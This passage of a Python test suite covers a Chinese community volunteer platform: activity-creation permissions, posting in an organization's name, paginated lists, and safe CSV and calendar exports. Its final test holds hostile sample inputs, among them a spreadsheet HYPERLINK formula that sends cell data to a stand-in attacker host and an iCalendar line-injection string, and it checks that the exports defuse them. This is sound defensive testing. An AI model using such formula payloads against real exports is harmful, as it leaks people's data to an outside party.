        "starts_at": start.strftime("%Y-%m-%dT%H:%M"),
        "ends_at": (start - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M"),
        "capacity": "5",
        "min_age": "14",
        "risky": "y",
    }
    login_as(RESIDENT)
    assert client.get("/volunteers/activities/new").status_code == 403
    login_as(GRID_WORKER)
    backwards = client.post("/volunteers/activities/new", data=dict(form))
    assert backwards.status_code == 422
    assert 'value="河边清理"' in backwards.get_data(as_text=True)
    form["ends_at"] = (start + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M")
    uninsured = client.post("/volunteers/activities/new", data=dict(form))
    assert uninsured.status_code == 422
    assert "保险" in uninsured.get_data(as_text=True)
    other = client.post(
        "/volunteers/activities/new",
        data={**form, "insured": "y", "community_id": str(community("C02").id)},
    )
    assert other.status_code == 422
    assert db.session.scalar(select(func.count(Activity.id))) == 0
    ok = client.post("/volunteers/activities/new", data={**form, "insured": "y"})
    assert ok.status_code == 303
    activity = db.session.scalar(select(Activity))
    assert activity.insured
    assert len(activity.shifts) == 1
    assert re.fullmatch(r"\d{6}", activity.shifts[0].code)
    listed = client.get(f"/volunteers/?community={community().id}").get_data(as_text=True)
    assert "河边清理" in listed
    assert "河边清理" not in client.get(f"/volunteers/?community={community('C02').id}").get_data(
        as_text=True
    )
    assert "河边清理" not in client.get("/volunteers/?skill=medical").get_data(as_text=True)


def test_an_approved_groups_officer_posts_in_its_name_and_its_page_lists_it(
    client, demo, login_as, create_user, ctx
):
    create_user("13900000051", name="合唱队长")  # an ordinary resident: no staff role at all
    create_user("13900000052", name="别的队长")
    create_user("13900000066", roles=[("community_reviewer", community("C02"))])
    choir = create_org(name="桃花社区夕阳红合唱队", officer="13900000051")
    other = create_org(name="柳塘社区太极队", code="C02", officer="13900000052")
    start = (utcnow() + timedelta(days=4)).replace(microsecond=0) + timedelta(hours=8)
    form = {
        "title": "合唱进养老院",
        "place": "桃花社区养老院",
        "community_id": str(community().id),
        "signup_deadline": (start - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M"),
        "cancel_hours": "24",
        "starts_at": start.strftime("%Y-%m-%dT%H:%M"),
        "ends_at": (start + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M"),
        "capacity": "4",
        "min_age": "14",
    }
    login_as(RESIDENT)
    assert client.get("/volunteers/organize").status_code == 403
    client.post("/auth/logout", data={})
    login_as("13900000051")
    page = client.get("/volunteers/activities/new").get_data(as_text=True)
    assert "桃花社区夕阳红合唱队" in page
    assert "柳塘社区太极队" not in page
    forged = client.post("/volunteers/activities/new", data={**form, "org_id": str(other.id)})
    assert forged.status_code == 422
    assert "组织负责人" in forged.get_data(as_text=True)
    as_community = client.post("/volunteers/activities/new", data={**form, "org_id": "0"})
    assert as_community.status_code == 422  # not the community's staff
    assert db.session.scalar(select(func.count(Activity.id))) == 0
    done = client.post("/volunteers/activities/new", data={**form, "org_id": str(choir.id)})
    assert done.status_code == 303
    activity = db.session.scalar(select(Activity))
    assert activity.org_id == choir.id
    assert activity.organizer == "桃花社区夕阳红合唱队"
    assert client.get(f"/volunteers/shifts/{activity.shifts[0].id}").status_code == 200
    public = client.application.test_client().get(f"/orgs/{choir.id}").get_data(as_text=True)
    assert "合唱进养老院" in public
    client.post("/auth/logout", data={})
    login_as("13900000052")
    assert client.get(f"/volunteers/shifts/{activity.shifts[0].id}").status_code == 403


# ---- a volunteer's lists in keyset pages ---------------------------------------------------------


def test_my_shifts_records_and_certificates_each_page_newest_first(client, demo, login_as, ctx):
    profile = create_profile(RESIDENT, name="张桂兰")
    start = utcnow().replace(microsecond=0) + timedelta(days=3)
    for n in range(35):
        # Two shifts at each hour: the sign-up's id parts them.
        shift = create_shift(start + timedelta(hours=n // 2 * 4), title=f"班次{n:02d}")
        db.session.add(Signup(shift_id=shift.id, profile_id=profile.id, state="confirmed"))
        record_for(profile, day=date(2026, 11, 1) + timedelta(days=n // 3))
        db.session.add(
            Certificate(
                number=f"N{n:09d}",
                profile_id=profile.id,
                minutes=60,
                first_day=date(2026, 1, 1),
                last_day=date(2026, 1, 2),
                issuer="桃花社区",
            )
        )
    db.session.commit()
    login_as(RESIDENT)
    signed = db.session.scalars(
        select(Signup.id)
        .join(Shift)
        .where(Signup.profile_id == profile.id)
        .order_by(Shift.starts_at.desc(), Signup.id.desc())
    ).all()
    shown, later = walk(client, "/volunteers/mine", r'/volunteers/signups/(\d+)"', "我的班次</h2>")
    assert shown == [str(i) for i in signed]
    assert len(later) == 1
    records = db.session.scalars(
        select(HoursRecord.id).order_by(HoursRecord.served_on.desc(), HoursRecord.id.desc())
    ).all()
    shown, later = walk(
        client, "/volunteers/mine", r'/volunteers/hours/(\d+)"', "服务时长记录</h2>"
    )
    assert shown == [str(i) for i in records]
    assert len(later) == 1
    shown, later = walk(client, "/volunteers/mine", r"证明 (N\d+)</a>", "志愿服务证明</h2>")
    assert shown == [f"N{n:09d}" for n in reversed(range(35))]
    assert "records_after" not in later[0]
    for arg in ("shifts_after", "records_after", "certificates_after"):
        refuses_forged_keys(client, "/volunteers/mine", arg)


def test_the_public_list_pages_by_each_activitys_next_shift_and_past_ones_latest_first(
    client, demo, ctx
):
    """Beyond the first page nothing was reachable before: every activity still to come is on
    one page or the next, by when its next shift starts, with that shift's time and seats."""
    soon = utcnow().replace(microsecond=0) + timedelta(days=2)
    made = []
    for n in range(45):
        shift = create_shift(soon + timedelta(hours=(45 - n) * 5), title=f"活动{n:02d}", capacity=3)
        if n % 3 == 0:  # an earlier shift, already over: the list shows the next one
            shift.activity.shifts.append(
                Shift(
                    starts_at=soon - timedelta(days=5 + n),
                    ends_at=soon - timedelta(days=5 + n) + timedelta(hours=2),
                    capacity=3,
                    code=new_code(),
                )
            )
        made.append(shift)
    made[-1].taken = 3  # the soonest is full
    db.session.commit()
    upcoming = [s.activity_id for s in sorted(made, key=lambda s: s.starts_at)]
    row = r'/volunteers/activities/(\d+)"'
    shown, later = walk(client, "/volunteers/", row)
    assert shown == [str(i) for i in upcoming]
    assert len(later) == 2
    page = client.get("/volunteers/").get_data(as_text=True)
    items = {
        i: page.split(f'/volunteers/activities/{i}"', 1)[1].split("</li>", 1)[0]
        for i in upcoming[:2]
    }
    assert "已满，可以候补" in items[upcoming[0]]
    assert "还剩 3 个名额" in items[upcoming[1]]
    assert f"{made[-2].starts_at + timedelta(hours=8):%H:%M}" in items[upcoming[1]]
    # The filters travel with the pages; the day filter shows that day's shift.
    day = (made[0].starts_at + timedelta(hours=8)).date()
    that_day = [
        s.activity_id
        for s in sorted(made, key=lambda s: s.starts_at)
        if (s.starts_at + timedelta(hours=8)).date() == day
    ]
    shown, _later = walk(client, f"/volunteers/?day={day.isoformat()}&community=0", row)
    assert shown == [str(i) for i in that_day]
    # Over: the latest first.
    over = sorted(
        (s for s in db.session.scalars(select(Shift)) if s.ends_at < utcnow()),
        key=lambda s: (s.starts_at, s.activity_id),
        reverse=True,
    )
    shown, later = walk(client, "/volunteers/?past=1", row)
    assert shown == [str(s.activity_id) for s in over]
    assert all("past=1" in url for url in later)
    refuses_forged_keys(client, "/volunteers/")


def test_the_csv_and_the_calendar_hold_hostile_text_as_text(client, demo, login_as, ctx):
    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点这里")'
    profile = create_profile(RESIDENT, name="@SUM(1+1)")
    shift = create_shift(title="助老\rBEGIN:VALARM;X=1,2\r\nEND:VEVENT")
    record = record_for(profile)
    record.shift_id, record.content, record.state = shift.id, hostile, "approved"
    record.place = "\t-1+2"
    db.session.commit()
    login_as(GRID_WORKER)
    text = client.get(f"/volunteers/shifts/{shift.id}/hours.csv").get_data(as_text=True)
    assert text.startswith("\ufeff")
    row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
    assert row[1] == "'@SUM(1+1)"
    assert row[5] == "'\t-1+2"
    assert row[6] == "'" + hostile
    raw = client.get(f"/volunteers/shifts/{shift.id}/calendar.ics").get_data()
    assert b"\r" not in raw.replace(b"\r\n", b"")
    lines = raw.decode().replace("\r\n ", "").split("\r\n")
    assert lines.count("END:VEVENT") == 1
    assert "SUMMARY:助老\\nBEGIN:VALARM\\;X=1\\,2\\nEND:VEVENT" in lines
    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))
